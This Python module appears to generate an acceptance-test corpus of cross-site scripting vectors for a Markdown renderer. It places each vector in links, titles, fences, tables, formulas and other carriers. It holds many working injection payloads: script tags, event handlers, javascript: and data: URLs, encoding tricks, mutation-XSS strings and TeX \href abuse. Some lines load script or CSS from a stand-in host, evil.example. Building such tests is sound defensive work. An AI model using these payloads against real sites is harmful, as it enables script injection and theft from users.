"""Text that tries to run a program in the reader's browser: vectors, and the places of Markdown that carry them.

Each vector calls the marker of `watch.js`, spelled `HIT()` here, with the number of its case. Carriers place a vector
where Markdown gives it another meaning: as text, address, title, name of a language, formula and so on.
"""

from collections.abc import Callable, Iterator, Mapping
from html import escape
from itertools import product
from urllib.parse import quote

from tests.acceptance.corpus import Case

# --- Vectors --------------------------------------------------------------------------------------------------------

_RAW = (
    "<script>HIT()</script>",
    "<ScRiPt>HIT()</sCrIpT>",
    "<script\n>HIT()</script\n>",
    "<script/x>HIT()</script>",
    "<scr<script>ipt>HIT()</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>HIT()",
    "<script>HIT()//",
    "<<script>HIT()//<</script>",
    "<script\0>HIT()</script>",
    "</p></div></li></ol><script>HIT()</script>",
    "<!--><script>HIT()</script>-->",
    "<![CDATA[><script>HIT()</script>]]>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>HIT()</script>",
)

_HANDLERS = (
    ("img src=x", "onerror"),
    ("IMG SRC=x", "OnErRoR"),
    ("img/src=x", "onerror"),
    ("img src=x\n", "onerror\n"),
    ("image src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onpageshow"),
    ("input autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("video><source", "onerror"),
    ("audio src=x", "onerror"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("style", "onload"),
    ("marquee", "onstart"),
    ("div style=animation-name:x", "onanimationstart"),
    ("p tabindex=0", "onpointerenter"),
    ("dialog open", "onclose"),
    ("button popovertarget=x", "onbeforetoggle"),
    ("select autofocus", "onfocusin"),
    ("a href=# tabindex=0", "onmouseover"),
)

_ADDRESSES = (
    "javascript:HIT()",
    "JaVaScRiPt:HIT()",
    " javascript:HIT()",
    "\u0001javascript:HIT()",
    "\u00a0javascript:HIT()",
    "java\tscript:HIT()",
    "javascript&colon;HIT()",
    "javascript&#58;HIT()",
    "&#106;avascript:HIT()",
    "&#x6A&#x61vascript:HIT()",
    "java&Tab;script:HIT()",
    "java&NewLine;script:HIT()",
    "javascript://evil.example/%0aHIT()",
    "javascript:/*-->*/HIT()",
    "javas%63ript:HIT()",
    "java\\script:HIT()",
    "javascript\\:HIT()",
    "vbscript:HIT()",
    "livescript:HIT()",
    "feed:javascript:HIT()",
    "view-source:javascript:HIT()",
    "blob:javascript:HIT()",
    "https:javascript:HIT()",
    'https://evil.example/"onmouseover="HIT()',
    "https://evil.example/'onmouseover='HIT()",
    "https://evil.example/><img src=x onerror=HIT()>",
    "data:text/html,<script>HIT()</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
    "DATA:image/svg+xml,<svg onload=HIT() xmlns='http://www.w3.org/2000/svg'/>",
    "data:,HIT()",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "file:///etc/passwd",
)

_OTHER_MARKUP = (
    "<svg><script>HIT()</script></svg>",
    "<svg><script href=data:,HIT() /></svg>",
    "<svg><a xlink:href='javascript:HIT()'><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x'><image href='x' onerror='HIT()'/></svg>#x\"/></svg>",
    "<svg><animate attributeName=href values=javascript:HIT() /><a id=x><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=HIT()></svg>",
    "<svg><foreignObject><img src=x onerror=HIT()></foreignObject></svg>",
    "<svg><style>{src:'</style><img src=x onerror=HIT()>'}</style></svg>",
    "<math href='javascript:HIT()'>x</math>",
    "<math><maction actiontype=statusline xlink:href='javascript:HIT()'>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=HIT()></annotation-xml></math>",
)

# What a parser that reads it twice understands differently the second time.
_MUTATING = (
    "<noscript><p title='</noscript><img src=x onerror=HIT()>'>",
    "<svg></p><style><a id='</style><img src=x onerror=HIT()>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=HIT()&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=HIT()>",
    "<xmp><p title='</xmp><img src=x onerror=HIT()>'>",
    "<title><textarea></title><img src=x onerror=HIT()></textarea>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=HIT()>'>",
    "<option><style></option></select><img src=x onerror=HIT()></style>",
    "<table><td background=javascript:HIT()><caption><img src=x onerror=HIT()>",
    "<plaintext><img src=x onerror=HIT()>",
    "<p id=x><b id=y><p><img src=x onerror=HIT()></b>",
    "<template shadowrootmode=open><img src=x onerror=HIT()></template>",
)

_FRAMES = (
    "<iframe srcdoc='<script>parent.HIT()</script>'></iframe>",
    "<iframe src=javascript:parent.HIT()></iframe>",
    "<object data='javascript:HIT()'></object>",
    "<embed src='javascript:HIT()'>",
    "<meta http-equiv=refresh content='0;url=javascript:HIT()'>",
    "<base href='javascript:HIT()//'>",
    "<link rel=stylesheet href=//evil.example/x.css onload=HIT()>",
    "<form action=javascript:HIT()><button autofocus>press</button></form>",
    "<button form=composer formaction=javascript:HIT()>press</button>",
    "<style>@import '//evil.example/x.css';*{background:url(javascript:HIT())}</style>",
)

_TEMPLATES = (
    "{{constructor.constructor('HIT()')()}}",
    "${HIT()}",
    "<%= HIT() %>",
    "{% include x %}{{ x|safe }}",
    "#{HIT()}",
    "[[${HIT()}]]",
    "<div v-html='HIT()' x-data=HIT() ng-init=HIT() hx-on:load=HIT()>",
)

_BREAKOUTS = (
    '" onmouseover="HIT()',
    "' onmouseover='HIT()",
    "` onmouseover=`HIT()",
    '"><img src=x onerror=HIT()>',
    "'><img src=x onerror=HIT()>",
    '\\"><img src=x onerror=HIT()>',
    "</code></pre></figure><img src=x onerror=HIT()>",
    '" style="animation:x" onanimationstart="HIT()',
    '"autofocus tabindex=0 onfocus="HIT()',
    "--><img src=x onerror=HIT()>",
    "';HIT();//",
    '";HIT();//',
    "</script><script>HIT()</script>",
)

_SPELLINGS = (
    "&lt;img src=x onerror=HIT()&gt;",
    "&amp;lt;img src=x onerror=HIT()&amp;gt;",
    "&#60;img src=x onerror=HIT()&#62;",
    "&#x3c;img src=x onerror=HIT()&#x3e;",
    "&LT;img src=x onerror=HIT()&GT;",
    "\\u003cimg src=x onerror=HIT()\\u003e",
    "%3Cimg%20src=x%20onerror=HIT()%3E",
    "+ADw-img src=x onerror=HIT()+AD4-",
    "＜img src=x onerror=HIT()＞",
    "\u2039img src=x onerror=HIT()\u203a",
    "<\u200bimg src=x onerror=HIT()>",
    "\ufeff<img src=x onerror=HIT()>",
    "\u202e<img src=x onerror=HIT()>",
    "\\<img src=x onerror=HIT()\\>",
    "<img src=x onerror=HIT()",
    "< img src=x onerror=HIT()>",
)

_FORMULAS = (
    "\\href{javascript:HIT()}{x}",
    "\\url{javascript:HIT()}",
    "\\htmlData{x=1,onclick=HIT()}{x}",
    "\\htmlId{composer}{x}",
    "\\htmlClass{send}{x}",
    "\\htmlStyle{background:url(//evil.example/x)}{x}",
    "\\includegraphics[alt=HIT()]{javascript:HIT()}",
    "\\text{<img src=x onerror=HIT()>}",
    "\\unicode{<img src=x onerror=HIT()>}",
    "\\verb|<img src=x onerror=HIT()>|",
    "\\require{html}\\style{x:expression(HIT())}{x}",
    "\\def\\x{\\x\\x}\\x",
    "\\color{red;background:url(//evil.example/x)}x",
    "\\begin{matrix}<img src=x onerror=HIT()>&\\href{javascript:HIT()}{x}\\end{matrix}",
)

# Names that every object has, and names of the page's own elements.
_NAMES = (
    "__proto__",
    "constructor",
    "&constructor;&toString;&valueOf;",
    "hasOwnProperty",
    "<form id=composer name=body><input name=parentNode></form>",
    "<a id=trustedTypes name=attributes href=javascript:HIT()>x</a>",
    "<img name=currentScript><img name=getElementById>",
    "<template id=answer-template><b>x</b></template>",
)

_MARKDOWN = (
    "[![<img src=x onerror=HIT()>](javascript:HIT())](javascript:HIT())",
    "<javascript:HIT()>",
    '<https://evil.example/"onmouseover="HIT()>',
    'https://evil.example/"onmouseover="HIT()',
    'www.evil.example/"onmouseover=HIT()',
    'a@evil.example"onmouseover=HIT()',
    "[a](<javascript:HIT()>)",
    '[a](javascript:HIT() "b")',
    "[a](https://evil.example/ '\"><img src=x onerror=HIT()>')",
    "![a](javascript:HIT())",
    '!["onerror="HIT()](https://evil.example/x.png)',
    "**<b onmouseover=HIT()>**",
    "~~[a](javascript:HIT())~~",
    "`` ` <img src=x onerror=HIT()> ``",
    "[a\\](javascript:HIT())](javascript:HIT())",
    "[a](java\\script\\:HIT())",
    "<img src=`x`onerror=HIT()>",
    "- [x] <img src=x onerror=HIT()>",
    "*[<img src=x onerror=HIT()>*](javascript:HIT())",
)


def _with_handlers() -> Iterator[str]:
    for element, handler in _HANDLERS:
        yield f"<{element} {handler}=HIT()>"


# So many of the addresses stand in markup as well; all of them stand where Markdown has addresses.
_ADDRESSES_IN_MARKUP = 6

VECTORS: tuple[str, ...] = (
    *_RAW,
    *_with_handlers(),
    *(f"<a href='{address}'>press</a>" for address in _ADDRESSES[:_ADDRESSES_IN_MARKUP]),
    *_OTHER_MARKUP,
    *_MUTATING,
    *_FRAMES,
    *_TEMPLATES,
    *_BREAKOUTS,
    *_SPELLINGS,
    *_NAMES,
    *_MARKDOWN,
)

# --- Carriers -------------------------------------------------------------------------------------------------------


def _one_line(vector: str) -> str:
    return vector.replace("\n", " ")


def _cell(vector: str) -> str:
    return _one_line(vector).replace("|", "\\|")


_ANYWHERE: Mapping[str, Callable[[str], str]] = {
    "text": lambda vector: f"before {vector} after",
    "block": lambda vector: vector,
    "link text": lambda vector: f"[{vector}](https://evil.example/)",
    "title": lambda vector: f'[press](https://evil.example/ "{vector}")',
    "image alt": lambda vector: f"![{vector}](https://evil.example/x.png)",
    "fence name": lambda vector: f"~~~~{_one_line(vector)}\nx = 1\n~~~~",
    "fence": lambda vector: f"~~~~html\n{vector}\n~~~~",
    "code": lambda vector: f"``{_one_line(vector)}``",
    "table": lambda vector: f"| {_cell(vector)} | b |\n|:-:|---|\n| a | {_cell(vector)} |",
    "heading": lambda vector: f"#### {_one_line(vector)}",
    "list": lambda vector: f"- a\n  1. {_one_line(vector)}\n  2. b",
    "quote": lambda vector: "\n".join(f"> {line}" for line in vector.split("\n")),
    "footnote": lambda vector: f"a note[^NUMBER]\n\n[^NUMBER]: {_one_line(vector)}",
    "formula": lambda vector: f"$x {_one_line(vector)}$ and \\({_one_line(vector)}\\)",
    "file name": lambda vector: f"Attached: [{_one_line(vector)}.pdf](attachment:{quote(vector)}.pdf)",
}

_OF_ADDRESSES: Mapping[str, Callable[[str], str]] = {
    "link": lambda address: f"[press]({address})",
    "link in angles": lambda address: f"[press](<{address}>)",
    "image": lambda address: f"![picture]({address})",
    "autolink": lambda address: f"<{address}>",
    "definition": lambda address: f"[press][dNUMBER]\n\n[dNUMBER]: {address}",
    "linked image": lambda address: f"[![picture]({address})]({address})",
    "escaped": lambda address: f"[press]({escape(address)})",
}

_OF_FORMULAS: Mapping[str, Callable[[str], str]] = {
    "formula in dollars": lambda formula: f"a ${formula}$ b",
    "formula as a block": lambda formula: f"$$\n{formula}\n$$",
    "formula in round brackets": lambda formula: f"a \\({formula}\\) b",
    "formula in square brackets": lambda formula: f"\\[\n{formula}\n\\]",
}


CARRIERS = (*_ANYWHERE, *_OF_ADDRESSES, *_OF_FORMULAS)


def cases() -> list[Case]:
    """All of them, numbered; the number is what the marker is called with."""
    placed = [
        *((carrier, place(vector)) for vector, (carrier, place) in product(VECTORS, _ANYWHERE.items())),
        *((name, place(address)) for address, (name, place) in product(_ADDRESSES, _OF_ADDRESSES.items())),
        *((name, place(formula)) for formula, (name, place) in product(_FORMULAS, _OF_FORMULAS.items())),
    ]
    return [
        Case(number, carrier, text.replace("HIT()", f"hit({number})").replace("NUMBER", str(number)))
        for number, (carrier, text) in enumerate(placed)
    ]
